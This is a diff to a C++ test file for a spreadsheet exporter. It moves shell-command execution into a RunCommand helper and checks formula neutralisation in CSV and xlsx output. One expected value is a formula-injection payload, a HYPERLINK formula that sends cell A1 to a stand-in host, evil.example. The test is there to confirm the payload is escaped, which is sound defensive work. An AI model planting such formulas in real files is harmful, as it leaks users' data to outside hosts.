@@ -183,6 +183,15 @@ TEST(SyncMatrixTest, XlsxIsAZipAndErrorsNameThePath) {
   EXPECT_NE(bad.message().find("/nonexistent-dir/x.xlsx"), std::string::npos) << bad.message();
 }
 
+// Runs a shell command; its stdout and stderr in *out; true when it exits 0.
+bool RunCommand(const std::string& cmd, std::string* out) {
+  FILE* pipe = popen(cmd.c_str(), "r");
+  if (!pipe) return false;
+  char buf[4096];
+  while (std::size_t n = fread(buf, 1, sizeof buf, pipe)) out->append(buf, n);
+  return pclose(pipe) == 0;
+}
+
 // The python3 that has openpyxl (the Debian one may differ from the first on PATH), or "".
 std::string PythonWithOpenpyxl() {
   for (const char* py : {"/usr/bin/python3", "python3"}) {
@@ -216,12 +225,8 @@ TEST(SyncMatrixTest, XlsxReadsBackWithOpenpyxl) {
          "  'wrap': ws['C5'].alignment.wrap_text, 'width': ws.column_dimensions['C'].width}))\n";
   }
   std::string cmd = py + " " + script + " " + path + " 2>&1";
-  FILE* pipe = popen(cmd.c_str(), "r");
-  ASSERT_NE(pipe, nullptr);
   std::string out;
-  char buf[4096];
-  while (std::size_t n = fread(buf, 1, sizeof buf, pipe)) out.append(buf, n);
-  ASSERT_EQ(pclose(pipe), 0) << out;
+  ASSERT_TRUE(RunCommand(cmd, &out)) << out;
   json j = json::parse(out);
   EXPECT_EQ(j["sheets"], json({"Sync matrix", "Plan"}));
   const json& c = j["cells"];
@@ -280,12 +285,8 @@ TEST(SyncMatrixTest, FormulaTextIsNeutralisedInCsvAndXlsx) {
   std::string cmd = py + " -c \"import json,sys,openpyxl; ws=openpyxl.load_workbook(sys.argv[1])['Sync matrix']; "
                     "print(json.dumps([[ws[c].value, ws[c].data_type] for c in ('A1','C4','D4','E4')]))\" " +
                     path + " 2>&1";
-  FILE* pipe = popen(cmd.c_str(), "r");
-  ASSERT_NE(pipe, nullptr);
   std::string out;
-  char buf[4096];
-  while (std::size_t n = fread(buf, 1, sizeof buf, pipe)) out.append(buf, n);
-  ASSERT_EQ(pclose(pipe), 0) << out;
+  ASSERT_TRUE(RunCommand(cmd, &out)) << out;
   json j = json::parse(out);
   EXPECT_EQ(j[0][0], "'=1+1");
   EXPECT_EQ(j[1][0], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
